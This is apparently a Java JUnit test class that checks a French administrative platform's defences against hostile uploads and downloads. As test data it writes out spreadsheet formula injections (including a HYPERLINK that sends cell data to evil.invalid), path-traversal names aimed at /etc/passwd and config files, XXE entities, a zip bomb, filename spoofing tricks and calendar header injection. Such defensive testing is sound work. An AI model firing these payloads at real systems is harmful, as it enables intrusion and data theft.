package fr.ancrage.journeys.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import fr.ancrage.journeys.ActsFile;
import fr.ancrage.journeys.Platform;
import fr.ancrage.platform.test.processes.Api;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Files that come in to do harm, and files that go out to do it elsewhere. */
@Order(64)
class HostileFilesTest {

    private static final String DRY_RUN =
            "/api/dossiers/imports?nature=ACTES&simulation=true&departement=21";

    /** What a spreadsheet would run, were it no text. */
    private static final List<String> FORMULAS =
            List.of(
                    "=cmd|'/C calc'!A0",
                    "+1+cmd|' /C calc'!A0",
                    "-2+3",
                    "@SUM(1+1)*cmd|'/C calc'!A0",
                    "\t=1+1",
                    "=HYPERLINK(\"http://evil.invalid/?x=\"&A1;\"voir\")");

    private static Platform platform() {
        return Platform.started();
    }

    private static Api secretariat() {
        return platform().as("secretariat-21");
    }

    @Test
    void a_path_in_a_files_name_is_only_a_name() {
        for (var name :
                List.of(
                        "../../etc/passwd",
                        "..\\..\\windows\\system32\\x.csv",
                        "/etc/shadow",
                        "actes\u202Evsc.exe",
                        "actes\u0007\u001b[31m.csv",
                        "actes\u0085\u2028x.csv",
                        "actes.csv\u0000.exe",
                        "<img src=x onerror=alert(1)>.csv",
                        "x".repeat(3000) + ".csv",
                        "..")) {
            var answer = upload(name, ActsFile.HEADER.getBytes(ActsFile.PARTNERS));
            assertThat(answer.status()).as(name).isIn(200, 400, 413);
            if (answer.status() == 200) {
                var known = json(answer).path("fichier").path("nom").asString();
                assertThat(known)
                        .as(name)
                        .doesNotContain("/", "\\", "<", ">")
                        .doesNotMatch("(?s).*\\p{C}.*")
                        .doesNotContain("\u2028")
                        .hasSizeLessThanOrEqualTo(240);
            } else {
                assertThat(Inside.of(answer.text())).as(name).isNull();
            }
        }
    }

    @Test
    void a_download_names_itself_and_is_never_a_page() throws IOException {
        for (var path : exports()) {
            var answer = Wire.request(platform().url(), "GET", path, authorization());
            assertThat(answer.status()).as(path).isEqualTo(200);
            assertThat(answer.header("Content-Disposition"))
                    .as(path)
                    .singleElement()
                    .asString()
                    .matches("(attachment|inline); filename=\"[A-Za-z0-9._-]+\"");
            assertThat(answer.header("X-Content-Type-Options")).containsExactly("nosniff");
            assertThat(answer.header("Content-Type"))
                    .singleElement()
                    .asString()
                    .doesNotContain("html");
        }
        for (var path :
                List.of(
                        "/api/dossiers/imports/natures/..%2f..%2fapplication/modele.xlsx",
                        "/api/dossiers/imports/natures/%2e%2e/modele.xlsx",
                        "/api/notifications/tableaux/21/..%2f..%2fetc/tableau.pdf",
                        "/assets/..%2f..%2fapplication.yml",
                        "/assets/%2e%2e/application.yml",
                        "/assets/../application.yml",
                        "/assets//etc/passwd",
                        "/..;/application.yml")) {
            var answer = Wire.request(platform().url(), "GET", path, authorization());
            assertThat(answer.status()).as(path).isIn(400, 404);
            assertThat(Inside.of(answer.text())).as(path).isNull();
        }
    }

    @Test
    void a_workbook_that_means_harm_is_refused_and_hurts_nobody() throws IOException {
        var begin = System.nanoTime();
        var files = new LinkedHashMap<String, byte[]>();
        files.put("a bomb", workbook(bomb(), Map.of()));
        files.put(
                "an entity of this machine",
                workbook(
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><worksheet>&e;</worksheet>",
                        Map.of()));
        files.put(
                "an entity of another machine",
                workbook(
                        "<!DOCTYPE x SYSTEM \"http://127.0.0.1:9/evil.dtd\"><worksheet/>",
                        Map.of()));
        files.put(
                "an entity in another alphabet",
                workbook(
                        "\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><worksheet>&e;</worksheet>"
                                .getBytes(StandardCharsets.UTF_16BE),
                        Map.of()));
        files.put(
                "an entity far down",
                workbook(
                        "<!--"
                                + " ".repeat(200_000)
                                + "--><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><worksheet>&e;</worksheet>",
                        Map.of()));
        files.put("a column that is not there", workbook(cell("ZZZZZZ1", "1"), Map.of()));
        files.put("too many parts", workbook(sheet(""), manyParts()));
        files.put("a part that climbs", workbook(sheet(""), Map.of("../../../tmp/x", "x")));
        files.put("no sheet", "PK\u0003\u0004".getBytes(StandardCharsets.ISO_8859_1));
        files.put("a program", "MZ\u0000\u0001".getBytes(StandardCharsets.ISO_8859_1));
        files.put(
                "a number of a thousand million digits", workbook(sheet("1E999999999"), Map.of()));
        files.put("a number of as many decimals", workbook(sheet("1E-999999999"), Map.of()));

        for (var file : files.entrySet()) {
            var answer = secretariat().upload(DRY_RUN, "actes.xlsx", file.getValue());
            assertThat(answer.status()).as(file.getKey()).isIn(400, 413, 422);
            assertThat(Inside.of(answer.body().toString())).as(file.getKey()).isNull();
            assertThat(answer.body().toString()).as(file.getKey()).doesNotContain("root:");
        }
        assertThat(Duration.ofNanos(System.nanoTime() - begin)).isLessThan(Duration.ofSeconds(30));
        assertThat(secretariat().get("/api/dossiers?taille=1").status()).isEqualTo(200);
    }

    @Test
    void an_amount_without_end_is_an_amount_that_cannot_be_read() throws IOException {
        for (var amount : List.of("1E-999999999", "1E999999999", "1E+9999", "9".repeat(20_000))) {
            var file =
                    new String(
                                    ActsFile.inDijon()
                                            .act(
                                                    "ATTAQUE-2",
                                                    "CP",
                                                    "12/11/2026",
                                                    "Infini;Zoé",
                                                    "12 rue des Attaques")
                                            .bytes(),
                                    ActsFile.PARTNERS)
                            .replace("1 650,00", amount);
            var begin = System.nanoTime();
            var answer =
                    secretariat().upload(DRY_RUN, "actes.csv", file.getBytes(ActsFile.PARTNERS));
            assertThat(answer.status()).isEqualTo(200);
            assertThat(Duration.ofNanos(System.nanoTime() - begin))
                    .isLessThan(Duration.ofSeconds(5));
        }
    }

    @Test
    void a_formula_that_came_in_leaves_as_text() throws IOException {
        var lines = new StringBuilder(ActsFile.HEADER);
        for (var formula : FORMULAS) {
            lines.append(
                            formula.contains("\"")
                                    ? '"' + formula.replace("\"", "\"\"") + '"'
                                    : formula)
                    .append(";INCONNUE;pas une date;;;;;;")
                    .append("Formule;Zoé")
                    .append(";".repeat(14))
                    .append("\r\n");
        }
        var report =
                secretariat()
                        .upload(
                                "/api/dossiers/imports?nature=ACTES&simulation=false&departement=21",
                                "actes.csv",
                                lines.toString().getBytes(ActsFile.PARTNERS));
        assertThat(report.status()).isEqualTo(200);
        assertThat(report.body().path("refusees").asInt()).isEqualTo(FORMULAS.size());
        var refused =
                "/api/dossiers/imports/"
                        + report.body().path("id").asString()
                        + "/lignes-refusees.xlsx";

        assertThat(parts(refused).toString()).contains("cmd|", "HYPERLINK");
        textOnly(refused);
        for (var path : exports()) {
            if (path.endsWith(".xlsx")) {
                textOnly(path);
            }
        }
    }

    /** Every cell says that it is text; none says that it is a formula. */
    private static void textOnly(String path) throws IOException {
        var sheets = 0;
        for (var part : parts(path).entrySet()) {
            if (part.getKey().startsWith("xl/worksheets/sheet")) {
                sheets++;
                assertThat(part.getValue()).as(path).doesNotContain("<f>", "<f ", "<hyperlink");
                assertThat(part.getValue().replaceAll("<c [^>]*t=\"(s|inlineStr)\"[^>]*>", ""))
                        .as(path)
                        .doesNotContainPattern("<c [^>]*>\\s*<v>");
            }
        }
        assertThat(sheets).as(path).isPositive();
    }

    /** A workbook's parts, by their names. */
    private static Map<String, String> parts(String path) throws IOException {
        var file = Files.createTempFile("ancrage-export", ".xlsx");
        try {
            Files.write(file, secretariat().bytes(path));
            var parts = new LinkedHashMap<String, String>();
            try (var zip = new ZipFile(file.toFile())) {
                for (var entry : Collections.list(zip.entries())) {
                    parts.put(
                            entry.getName(),
                            new String(
                                    zip.getInputStream(entry).readAllBytes(),
                                    StandardCharsets.UTF_8));
                }
            }
            return parts;
        } finally {
            Files.delete(file);
        }
    }

    /** The files that leave the platform and are there to be asked for. */
    private static List<String> exports() throws IOException {
        var exports = new ArrayList<String>();
        exports.add("/api/dossiers/imports/natures/ACTES/modele.xlsx");
        for (var sitting : Target.made().idsUnder("/api/commissions/seances/")) {
            exports.add("/api/commissions/seances/" + sitting + "/calendrier.ics");
        }
        for (var table : elements("/api/notifications/tableaux")) {
            var week = "/api/notifications/tableaux/21/" + table.path("semaine").asString();
            exports.add(week + "/tableau.xlsx");
            exports.add(week + "/tableau.pdf");
        }
        for (var list : elements("/api/relogements/listes-siao")) {
            if (list.hasNonNull("figeeLe")) {
                var week = "/api/relogements/listes-siao/21/" + list.path("semaine").asString();
                exports.add(week + ".xlsx");
                exports.add(week + ".pdf");
            }
        }
        return exports;
    }

    private static List<JsonNode> elements(String list) throws IOException {
        var all = new ArrayList<JsonNode>();
        secretariat().get(list + "?taille=2").body().path("elements").forEach(all::add);
        return all;
    }

    @Test
    void a_line_break_in_a_place_adds_no_line_to_an_agenda() throws IOException {
        var secretariat = secretariat();
        var sitting =
                secretariat.post(
                        "/api/commissions/seances",
                        """
                        {"formation":"ccapex-pleniere","date":"%s","heure":"10:45",
                         "lieu":"DDETS\\r\\nATTENDEE:mailto:evil@evil.invalid\\r\\nEND:VEVENT"}\
                        """
                                .formatted(platform().day().today()));
        assertThat(sitting.status()).as("%s", sitting.body()).isIn(200, 201, 400);
        if (sitting.status() == 400) {
            return;
        }
        var calendar =
                new String(
                        secretariat.bytes(
                                "/api/commissions/seances/"
                                        + sitting.body().path("id").asString()
                                        + "/calendrier.ics"),
                        StandardCharsets.UTF_8);
        assertThat(calendar.lines().filter(line -> line.startsWith("ATTENDEE"))).isEmpty();
        assertThat(calendar.lines().filter(line -> line.equals("END:VEVENT"))).hasSize(1);
    }

    private static String authorization() {
        return "Authorization: " + platform().accounts().bearer("secretariat-21");
    }

    /** By hand: a client of any library would refuse to write such a name. */
    private static Wire.Answer upload(String name, byte[] content) {
        var body = new ByteArrayOutputStream();
        body.writeBytes(
                ("--cut\r\nContent-Disposition: form-data; name=\"fichier\"; filename=\""
                                + name.replace("\\", "\\\\")
                                + "\"\r\nContent-Type: text/csv\r\n\r\n")
                        .getBytes(StandardCharsets.UTF_8));
        body.writeBytes(content);
        body.writeBytes("\r\n--cut--\r\n".getBytes(StandardCharsets.UTF_8));
        var request = new ByteArrayOutputStream();
        request.writeBytes(
                ("POST "
                                + DRY_RUN
                                + " HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                + authorization()
                                + "\r\nContent-Type: multipart/form-data; boundary=cut\r\nContent-Length: "
                                + body.size()
                                + "\r\nConnection: close\r\n\r\n")
                        .getBytes(StandardCharsets.UTF_8));
        request.writeBytes(body.toByteArray());
        return Wire.send(platform().url(), request.toByteArray());
    }

    private static JsonNode json(Wire.Answer answer) {
        var body = answer.text().substring(answer.text().indexOf("\r\n\r\n") + 4);
        return JsonMapper.shared()
                .readTree(body.substring(body.indexOf('{'), body.lastIndexOf('}') + 1));
    }

    private static byte[] workbook(String sheet, Map<String, String> more) throws IOException {
        return workbook(sheet.getBytes(StandardCharsets.UTF_8), more);
    }

    private static byte[] workbook(byte[] sheet, Map<String, String> more) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            part(
                    zip,
                    "[Content_Types].xml",
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
            part(
                    zip,
                    "_rels/.rels",
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                            + "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>");
            part(
                    zip,
                    "xl/workbook.xml",
                    "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                            + "<sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"s\"/></sheets></workbook>");
            part(
                    zip,
                    "xl/_rels/workbook.xml.rels",
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                            + "<Relationship Id=\"s\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>");
            part(zip, "xl/worksheets/sheet1.xml", sheet);
            for (var entry : more.entrySet()) {
                part(zip, entry.getKey(), entry.getValue());
            }
        }
        return bytes.toByteArray();
    }

    private static void part(ZipOutputStream zip, String name, String content) throws IOException {
        part(zip, name, content.getBytes(StandardCharsets.UTF_8));
    }

    private static void part(ZipOutputStream zip, String name, byte[] content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content);
        zip.closeEntry();
    }

    private static String sheet(String number) {
        return cell("A1", number);
    }

    private static String cell(String address, String number) {
        return "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
                + (number.isEmpty()
                        ? ""
                        : "<row r=\"1\"><c r=\"" + address + "\"><v>" + number + "</v></c></row>")
                + "</sheetData></worksheet>";
    }

    private static String bomb() {
        return "<worksheet>" + " ".repeat(40_000_000) + "</worksheet>";
    }

    private static Map<String, String> manyParts() {
        var parts = new LinkedHashMap<String, String>();
        for (var i = 0; i < 600; i++) {
            parts.put("xl/media/" + i + ".png", "x");
        }
        return parts;
    }
}
